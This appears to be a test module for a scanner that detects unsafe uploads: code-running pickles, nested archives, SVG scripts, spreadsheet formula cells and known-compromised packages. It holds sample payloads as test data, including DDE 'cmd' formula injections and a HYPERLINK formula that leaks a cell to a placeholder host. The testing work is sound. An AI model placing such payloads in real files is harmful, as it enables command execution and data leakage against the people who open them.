@@ -1,0 +1,391 @@
+"""Files that could run a program are named whatever they are dressed as; honest ones are not."""
+
+from __future__ import annotations
+
+import ast
+import importlib
+import inspect
+import json
+import pickle
+import pkgutil
+import re
+import resource
+import time
+import zipfile
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from tests.workers.factories import write_sample
+from tests.workers.probes.security import artefacts
+from tests.workers.probes.security.artefacts import BOMB, ESCAPE, RUNS
+from workers import plan as plans
+from workers import sandbox
+from workers.inputs import prepare
+from workers.probes import run as notebook
+from workers.probes.base import Budget, Finding, Sample, Upload
+from workers.probes.security import unsafe_files
+from workers.probes.security.unsafe_files import allowed, kinds, packages
+from workers.probes.security.unsafe_files.look import Look, Where
+from workers.probes.security.unsafe_files.pickles import walk
+
+ROOT = Path(__file__).resolve().parents[4]
+pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")
+
+
+def look(folder: Path, data: bytes, name: str = "model.pkl", *, artefact: bool = True) -> Finding:
+    path = folder / "upload"
+    path.write_bytes(data)
+    return unsafe_files.run(Sample(uploads=(Upload(path, name, artefact),)), Budget(30))
+
+
+def named(finding: Finding) -> set[str]:
+    return {fault["fault"] for fault in finding.facts["faults"]}
+
+
+@pytest.fixture(scope="module")
+def harmful(tmp_path_factory) -> list[artefacts.Harmful]:
+    return artefacts.harmful(tmp_path_factory.mktemp("canary") / "written")
+
+
+@pytest.fixture(scope="module")
+def honest() -> dict[str, bytes]:
+    return artefacts.honest()
+
+
+# -- recall and false alarms ------------------------------------------------------------------------------
+def test_every_dress_is_named_and_no_canary_is_written(tmp_path, tmp_path_factory):
+    canary = tmp_path / "written"
+    corpus = artefacts.harmful(canary)
+    missed = []
+    for one in corpus:
+        finding = look(tmp_path, one.data, one.name)
+        if one.fault not in named(finding) or finding.facts["files"] != [one.name]:
+            missed.append(one.name)
+        assert finding.value in ((2, 3) if one.fault == RUNS else (2,)), one.name
+    assert missed == []
+    assert len(corpus) > 120
+    assert not canary.exists()
+
+
+def test_the_corpus_is_no_bluff(tmp_path):
+    """Python itself runs these, so a miss would matter."""
+    bad = artefacts.hand_written(str(tmp_path / "written"))
+    for name in (
+        "memo", "memo_far", "duplicate", "instance", "object", "old_strings", "written_with_escapes",
+        "unicode_escapes", "chained", "garbled_behind", "cut_behind_the_call", "underflow_behind",
+    ):  # fmt: skip
+        try:
+            pickle.loads(bad[f"{name}.pkl"])
+        except (pickle.UnpicklingError, EOFError):
+            assert "behind" in name
+        assert (tmp_path / "written").is_dir(), name
+        (tmp_path / "written").rmdir()
+
+
+def test_no_honest_file_is_named(tmp_path, honest):
+    alarms = {}
+    for name, data in honest.items():
+        finding = look(tmp_path, data, name)
+        if finding.facts["faults"] or finding.value or finding.high:
+            alarms[name] = finding.facts["found"]
+    assert alarms == {}
+    assert len(honest) > 40
+
+
+def test_what_it_would_run_and_where_is_told(tmp_path):
+    bad = pickle.dumps(artefacts.Canary("x"), 4)
+    inner = artefacts.zipped({"archive/data.pkl": bad, "archive/version": b"3"})
+    finding = look(tmp_path, artefacts.zipped({"nets/a.pt": inner}), "nets.zip")
+    (found,) = finding.facts["found"]
+    assert found["file"] == "nets.zip"
+    assert found["inside"] == "nets/a.pt > archive/data.pkl"
+    assert found["runs"] == "posix.mkdir"
+    assert finding.title == "nets.zip would run a program when opened"
+    assert "posix.mkdir" in finding.note
+    assert finding.facts["looked"] == [{"file": "nets.zip", "what": "zip archive", "artefact": True}]
+
+
+def test_a_name_that_nobody_knows_is_told_as_that(tmp_path):
+    finding = look(tmp_path, b"\x80\x02cmypackage.nets\nNet\n)\x81.", "net.pt")
+    assert finding.title == "net.pt would run code that nobody here knows"
+    assert (finding.value, finding.facts["found"][0]["known"]) == (3, False)
+
+
+def test_two_findings_of_the_same_files_are_equal(tmp_path, harmful):
+    some = harmful[::9]
+    assert [look(tmp_path, one.data, one.name) for one in some] == [
+        look(tmp_path, one.data, one.name) for one in some
+    ]
+
+
+# -- the walker -------------------------------------------------------------------------------------------
+def test_a_list_of_numbers_is_walked_fast_and_in_little_memory():
+    data = pickle.dumps([float(i) for i in range(2_000_000)], 4)
+    before, began = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.process_time()
+    found = walk(data)
+    assert found.complete
+    assert time.process_time() - began < 5
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300 * 1024  # KB
+
+
+def test_piling_up_without_end_is_ended():
+    assert "piles up" in walk(b"\x80\x04" + b"N" * 6_000_000).error
+    assert walk(b"\x80\x04" + b"(" * 6_000_000).error
+    assert "no time" in walk(b"\x80\x04" + b"N0" * 500_000, deadline=0.0).error
+
+
+def test_an_allowed_function_is_no_way_to_one_that_is_not():
+    for module, name in (
+        ("collections", "OrderedDict.fromkeys"), ("sklearn.tree._classes", "os.system"),
+        ("torch.nn.modules.module", "torch.load"), ("sklearn.linear_model._base", "make_dataset"),
+        ("sklearn.datasets._base", "LoadFiles"), ("sklearn.utils.parallel", "Parallel"),
+        ("torch", "load"), ("torch.hub", "load"), ("numpy", "load"), ("numpy", "fromfile"),
+        ("builtins", "getattr"), ("functools", "partial"), ("operator", "attrgetter"), ("", "set"),
+    ):  # fmt: skip
+        assert not allowed.allowed(module, name), (module, name)
+
+
+def test_no_function_of_the_installed_libraries_slips_through_a_family():
+    """The families are patterns: what they let through today must be classes of their own library."""
+    own = {
+        "sklearn",
+        "torch",
+        "scipy",
+        "numpy",
+        "abc",
+        "collections",
+        "numbers",
+        "typing",
+        "builtins",
+        "types",
+    }
+    seen = 0
+    for root in ("sklearn", "torch.nn.modules", "torch.optim", "scipy.sparse"):
+        top = importlib.import_module(root)
+        for found in pkgutil.walk_packages(top.__path__, f"{root}.", onerror=lambda name: None):
+            if re.search(r"tests|conftest|_build|array_api|external", found.name):
+                continue
+            try:
+                module = importlib.import_module(found.name)
+            except ImportError:
+                continue
+            for name in dir(module):
+                thing = getattr(module, name)
+                if not allowed.allowed(found.name, name) or not callable(thing):
+                    continue
+                seen += 1
+                home = (getattr(thing, "__module__", "") or "").partition(".")[0]
+                assert home in own, (found.name, name, home)
+                assert not inspect.isfunction(thing), (found.name, name)
+    assert seen > 1000
+
+
+# -- hostile bytes ----------------------------------------------------------------------------------------
+def mutations(data: bytes, seed: int) -> bytes:
+    rng = np.random.default_rng(seed)
+    made = bytearray(data)
+    for _ in range(int(rng.integers(1, 9))):
+        at = int(rng.integers(0, max(1, len(made))))
+        kind = rng.integers(0, 4)
+        if kind == 0 and made:
+            made[at % len(made)] = int(rng.integers(0, 256))
+        elif kind == 1:
+            made[at:at] = rng.integers(0, 256, int(rng.integers(1, 9)), dtype=np.uint8).tobytes()
+        elif kind == 2:
+            del made[at : at + int(rng.integers(1, 40))]
+        else:
+            made[at : at + 8] = b"\xff" * 8
+    return bytes(made)
+
+
+def fuzz(files: dict[str, bytes], seeds: range) -> None:
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    for name, data in files.items():
+        for seed in seeds:
+            one = mutations(data, seed)
+            found, began = Look(deadline=time.monotonic() + 20), time.process_time()
+            kinds.inspect(found, memoryview(one), Where(name))
+            assert time.process_time() - began < 3, (name, seed)
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 700 * 1024  # KB
+
+
+def test_mutated_files_end_in_a_finding_and_never_in_an_error(harmful, honest):
+    small = {one.name: one.data for one in harmful if len(one.data) < 60_000}
+    small |= {name: data for name, data in honest.items() if len(data) < 60_000}
+    fuzz(small, range(6))
+
+
+@pytest.mark.slow
+def test_thousands_of_mutated_files_end_in_a_finding(harmful, honest):
+    files = {one.name: one.data for one in harmful if len(one.data) < 200_000} | honest
+    fuzz({name: data for name, data in files.items() if len(data) < 200_000}, range(100, 160))
+
+
+def test_random_bytes_are_no_program(tmp_path):
+    rng = np.random.default_rng(0)
+    for seed in range(200):
+        data = rng.integers(0, 256, 5000, dtype=np.uint8).tobytes()
+        assert not named(look(tmp_path, data, f"w{seed}.bin")), seed
+    tensors = {f"archive/data/{i}": rng.normal(size=500).astype("f4").tobytes() for i in range(300)}
+    head = {"archive/data.pkl": b"\x80\x02}.", "archive/version": b"3"}
+    assert not named(look(tmp_path, artefacts.zipped({**head, **tensors}), "net.pt"))
+
+
+def test_when_time_is_over_the_rest_is_unknown_and_not_safe(tmp_path):
+    path = tmp_path / "a.pkl"
+    path.write_bytes(pickle.dumps(list(range(3_000_000)), 0))
+    finding = unsafe_files.run(Sample(uploads=(Upload(path, "a.pkl", True),)), Budget(0.0))
+    assert finding.high == 3
+    assert "Time ran out" in finding.note or "no time" in finding.note
+
+
+# -- the data set -----------------------------------------------------------------------------------------
+FORMULAS = [
+    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"ok")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=IMPORTXML(A1)", "＝1+1", "＋SUM(A1)", "＠SUM(1,1)", "=A1",
+    "=-1+2", '=IMPORTDATA("http://x")', "+1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=(1)", "-A1*2", "+B2+C3",
+    "=sum(a1:a9)",
+]  # fmt: skip
+HARMLESS = [
+    "-5", "+1", "-0.5e-3", "+49 30 1234567", "+1-555-0100", "-", "--", "- a point (in brackets)", "@ada",
+    "@ada: see you (soon)", "=)", "==", "=>", "-12%", "-3:0", "- 5 apples", "+", "+++ b/file.py", "a=1+1",
+    "'=1+1", "-1/2", "-2024-01-02", "@", "e-mail@x.org", "+/-", "-1.5 to 3", "–5", "-x", "=", "-$5", "+ more",
+]  # fmt: skip
+
+
+def test_formula_cells_are_named_with_their_rows(tmp_path):
+    text = [f"word {i}" for i in range(60)]
+    for i, formula in enumerate(FORMULAS):
+        text[2 * i] = formula
+    sample = write_sample(tmp_path / "s", np.zeros((60, 1)), np.arange(60) % 2, rows={"note": text})
+    finding = unsafe_files.run(sample, Budget(30))
+    (fault,) = finding.facts["faults"]
+    assert fault["fault"] == "formula_cells"
+    assert fault["rows"] == [2 * i for i in range(len(FORMULAS))]
+    assert fault["columns"] == ["note"]
+    assert finding.value == 1
+    assert "20 cells are formulas" in finding.title
+
+
+def test_signs_and_numbers_are_no_formulas(tmp_path):
+    columns = {"a": HARMLESS, "b": [f"{(-1) ** i * i}" for i in range(len(HARMLESS))]}
+    sample = write_sample(tmp_path, np.zeros((len(HARMLESS), 1)), np.arange(len(HARMLESS)) % 2, rows=columns)
+    finding = unsafe_files.run(sample, Budget(30))
+    assert finding.facts["faults"] == []
+    assert finding.value == 0
+
+
+def test_a_formula_among_the_column_names_is_named(tmp_path):
+    sample = write_sample(tmp_path, np.zeros((9, 1)), np.arange(9) % 2, rows={"=1+1": list("abcdefghi")})
+    assert unsafe_files.run(sample, Budget(30)).facts["formulas"]["headers"] == ["=1+1"]
+
+
+def test_scripts_and_programs_in_a_data_set_are_named(tmp_path):
+    script = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
+    entries = {"a/1.png": b"\x89PNG\r\n\x1a\n" + bytes(99), "a/2.svg": script, "a/x.dat": pickle.dumps(
+        artefacts.Canary("x"), 4)}  # fmt: skip
+    finding = look(tmp_path, artefacts.zipped(entries, zipfile.ZIP_DEFLATED), "set.zip", artefact=False)
+    assert {one["inside"] for one in finding.facts["found"]} == {"a/2.svg", "a/x.dat"}
+    parquet = look(tmp_path, artefacts.parquet(b"N."), "t.parquet", artefact=False)
+    assert named(parquet) == {RUNS}
+
+
+@pytest.mark.parametrize("word", ["Script", "script", "scr&#105;pt", "svg:script"])
+def test_a_script_is_found_however_it_is_spelt(tmp_path, word):
+    svg = f'\ufeff<?xml version="1.0"?><svg><{word} >x</{word}></svg>'
+    for encoding in ("utf-8", "utf-16-le", "utf-16-be"):
+        assert named(look(tmp_path, svg.encode(encoding), "a.svg")) == {RUNS} or "&#" in word
+
+
+def test_the_real_sets_are_clean(shared_data, tmp_path):
+    paths = [p for p in sorted(shared_data.rglob("*")) if p.suffix in (".csv", ".gz", ".zip", ".jsonl")]
+    small = [path for path in paths if path.stat().st_size < 3_000_000]
+    assert len(small) > 15
+    for path in small:
+        finding = look(tmp_path, path.read_bytes(), path.name, artefact=False)
+        assert finding.facts["faults"] == [], path
+
+
+def test_the_cells_of_real_tables_are_no_formulas(shared_data, tmp_path):
+    for name in ("wine", "breast_cancer", "titanic", "adult", "spam"):
+        path = next((p for p in sorted(shared_data.rglob("*.csv")) if name in p.name), None)
+        if path is None or path.stat().st_size > 3_000_000:
+            continue
+        folder = tmp_path / name
+        prepare([path], [path.name], folder)
+        finding = unsafe_files.run(Sample(folder), Budget(30))
+        assert finding.facts["faults"] == [], path
+
+
+# -- the rest ---------------------------------------------------------------------------------------------
+def test_known_bad_packages_of_a_plan_are_named(tmp_path):
+    written = "packages: [numpy==2.0, torchtriton, ultralytics==8.3.41, ultralytics==8.4]"
+    plan = plans.read(written, "plan.yaml").plan
+    finding = unsafe_files.run(Sample(plan=plan), Budget(10))
+    assert [one["runs"] for one in finding.facts["found"]] == [
+        "an install of torchtriton", "an install of ultralytics 8.3.41",
+    ]  # fmt: skip
+    for other in ({"torchtriton": "1.0"}, "numpy\ntorchtriton==1.0"):
+        read = plans.read(json.dumps({"dependencies": other}), "plan.json").plan
+        assert packages.in_plan(read) == ["torchtriton"]
+    assert packages.denied(["# torchtriton", "torch", "-r more.txt", "TorchTriton >= 1"]) == ["torchtriton"]
+
+
+def test_without_any_file_it_is_skipped():
+    assert unsafe_files.run(Sample(), Budget(10)).state == "skipped"
+
+
+def test_without_a_model_file_the_range_stays_open(tmp_path):
+    sample = write_sample(tmp_path, np.zeros((9, 1)), np.arange(9) % 2, rows={"a": list("abcdefghi")})
+    finding = unsafe_files.run(sample, Budget(10))
+    assert (finding.low, finding.value, finding.high) == (0, 0, 1)
+    assert "No model file was shown" in finding.note
+
+
+def test_it_runs_in_a_notebook_and_in_the_sandbox(tmp_path):
+    path = tmp_path / "net.pkl"
+    path.write_bytes(pickle.dumps(artefacts.Canary(str(tmp_path / "written")), 4))
+    assert named(notebook("unsafe_files", artefacts=[path])) == {RUNS}
+    request = sandbox.Request(
+        "security.unsafe_files", tmp_path / "out", inputs=(path,), names=("net.pkl",), artefacts=1, seconds=60
+    )
+    finding = sandbox.measure(request)
+    assert (named(finding), finding.value) == ({RUNS}, 3)
+    assert not (tmp_path / "written").exists()
+    sandbox.stop()
+
+
+def test_nothing_in_the_project_loads_what_was_uploaded():
+    """No unpickling, no eval, no exec: in code that runs, by its syntax tree and not by its comments."""
+    banned = {
+        "pickle", "cPickle", "_pickle", "joblib", "dill", "cloudpickle", "marshal", "shelve", "torch.load",
+        "numpy.load",
+    }  # fmt: skip
+    hits = []
+    for path in [p for top in ("assessments", "riskboard", "workers") for p in (ROOT / top).rglob("*.py")]:
+        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
+            if isinstance(node, ast.Import | ast.ImportFrom):
+                module = [node.module] if isinstance(node, ast.ImportFrom) else []
+                names = [name for name in (*module, *(alias.name for alias in node.names)) if name]
+                hits += [(path.name, name) for name in names if name.partition(".")[0] in banned]
+            if isinstance(node, ast.Call):
+                called = ast.unparse(node.func)
+                plain = called in ("eval", "exec", "compile", "__import__")
+                loads = re.fullmatch(r"(?:torch|np|numpy|pd|pandas)\.(?:load|read_pickle|fromfile)", called)
+                allows = any(keyword.arg == "allow_pickle" for keyword in node.keywords)
+                if plain or loads or allows:
+                    hits.append((path.name, called))
+    assert hits == []
+
+
+def test_names_in_the_report_are_text_of_bounded_length(tmp_path):
+    name = "a\n\u202e" + "x" * 5000
+    bad = b"\x80\x02c" + b"m" * 150 + b"\nrun\n."
+    finding = look(tmp_path, artefacts.zipped({name: bad}), "a.zip")
+    assert finding.value == 3
+    assert all(len(str(value)) < 200 for one in finding.facts["found"] for value in one.values())
+    assert "\u202e" not in str(finding.facts)
+    assert BOMB not in named(finding)
+    assert ESCAPE not in named(finding)
